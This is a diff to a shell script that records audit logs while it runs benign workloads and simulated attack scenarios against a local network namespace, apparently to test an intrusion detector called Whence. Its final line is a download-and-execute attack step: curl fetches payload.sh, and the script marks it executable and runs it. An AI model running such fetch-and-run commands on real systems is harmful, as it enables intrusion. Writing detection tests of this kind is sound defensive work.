@@ -7,8 +7,11 @@
 # raw ENRICHED records to a temporary log (each line prefixed node=whence-demo); installs the rules of
 # audit-rules.sh tagged with a key; runs benign work and attack-like scenarios against a "remote" host
 # that is a network namespace of this machine joined by a veth pair (10.203.0.0/24: no traffic leaves
-# the machine); then removes its rules by key, restores the saved settings, stops auditd, and copies
-# the log to OUT.log. Every scenario starts with an exec of `/bin/true whence-scenario NAME` so the log
+# the machine); then removes its rules by key, restores the saved settings, stops auditd, and writes
+# the log to OUT.log with the namespace's processes attributed to a second host, whence-remote
+# (split-netns-host.py), so the recording replays as two watched hosts.
+# With AUDIT_RECORDER=whence the log is recorded by Whence's own collector (`whence record`, netlink
+# mode) instead of auditd. Every scenario starts with an exec of `/bin/true whence-scenario NAME` so the log
 # shows where each begins. The restore runs on any exit (trap), also when a scenario fails.
 set -uo pipefail
 out=${1:?usage: record-demo.sh OUT.log}
@@ -19,6 +22,7 @@ work=$(mktemp -d /tmp/whence-record.XXXXXX)
 mkdir -p "$work/www"
 ns=whence-remote
 had_ssh_dir=$([ -d /root/.ssh ] && echo yes)
+had_cron=$(pgrep -x cron >/dev/null && echo yes)
 
 cleanup() {
   ip netns pids "$ns" 2>/dev/null | xargs -r kill 2>/dev/null
@@ -29,10 +33,16 @@ cleanup() {
   if [ -f "$work/authorized_keys.bak" ]; then cp "$work/authorized_keys.bak" /root/.ssh/authorized_keys
   else rm -f /root/.ssh/authorized_keys; fi
   [ -z "$had_ssh_dir" ] && rmdir /root/.ssh 2>/dev/null
+  if command -v crontab >/dev/null; then
+    if [ -f "$work/crontab.bak" ]; then crontab "$work/crontab.bak"; else crontab -r 2>/dev/null; fi
+  fi
+  rm -f /var/log/whence-demo-app.log*
 }
 finish() {
   audit_session_stop
-  [ -f "$work/audit.log" ] && cp "$work/audit.log" "$out"
+  # One kernel audits both "hosts": attribute the namespace's processes to whence-remote.
+  [ -f "$work/audit.log" ] && python3 "$(dirname "$0")/split-netns-host.py" \
+    "$work/audit.log" "$out" "$ns" whence-remote "$work/remote-pids.txt"
   rm -rf "$work"
 }
 AUDIT_SESSION_CLEANUP=cleanup
@@ -69,6 +79,7 @@ t = [threading.Thread(target=f) for f in (reverse_listener, sink)]
 PY
 sleep 1
 
+ip netns pids "$ns" > "$work/remote-pids.txt"
 audit_session_start "$key" whence-demo "$work/audit.log"
 trap finish EXIT
 
@@ -83,6 +94,30 @@ dpkg -l > /dev/null; apt-cache policy bash > /dev/null
 scenario benign-compile
 printf '#include <stdio.h>\nint main(void){puts("hello");return 0;}\n' > /tmp/whence-hello.c
 gcc -o /tmp/whence-hello /tmp/whence-hello.c && /tmp/whence-hello > /dev/null; rm -f /tmp/whence-hello /tmp/whence-hello.c
+
+# Benign look-alikes of the attack scenarios below: none of them may raise an alert.
+scenario benign-package-install
+# A package manager downloading packages and running their maintainer scripts (cron and logrotate
+# are used by the next scenarios; when both are installed already, jq is reinstalled instead).
+if command -v crontab >/dev/null && command -v logrotate >/dev/null; then
+  DEBIAN_FRONTEND=noninteractive apt-get install -y -q --reinstall jq >/dev/null 2>&1
+else
+  DEBIAN_FRONTEND=noninteractive apt-get install -y -q cron logrotate >/dev/null 2>&1
+fi
+pgrep -x cron >/dev/null && [ -z "$had_cron" ] && pkill -x cron
+scenario benign-crontab-edit
+if command -v crontab >/dev/null; then
+  crontab -l > "$work/crontab.bak" 2>/dev/null || rm -f "$work/crontab.bak"
+  printf '$a\n17 3 * * * /usr/bin/true nightly\n.\nw\nq\n' | EDITOR=/usr/bin/ed crontab -e >/dev/null 2>&1
+fi
+scenario benign-logrotate
+if command -v logrotate >/dev/null; then
+  printf '/var/log/whence-demo-app.log {\n  rotate 1\n  missingok\n}\n' > "$work/logrotate.conf"
+  for i in 1 2 3; do echo "request $i" >> /var/log/whence-demo-app.log; logrotate -f -s "$work/logrotate.state" "$work/logrotate.conf"; done
+  rm -f /var/log/whence-demo-app.log*
+fi
+scenario benign-login-shell
+su - nobody -s /bin/bash -c 'ls / > /dev/null'
 
 scenario download-execute
 curl -s http://10.203.0.2:8000/payload.sh -o /tmp/.update.sh && chmod +x /tmp/.update.sh && /tmp/.update.sh > /dev/null
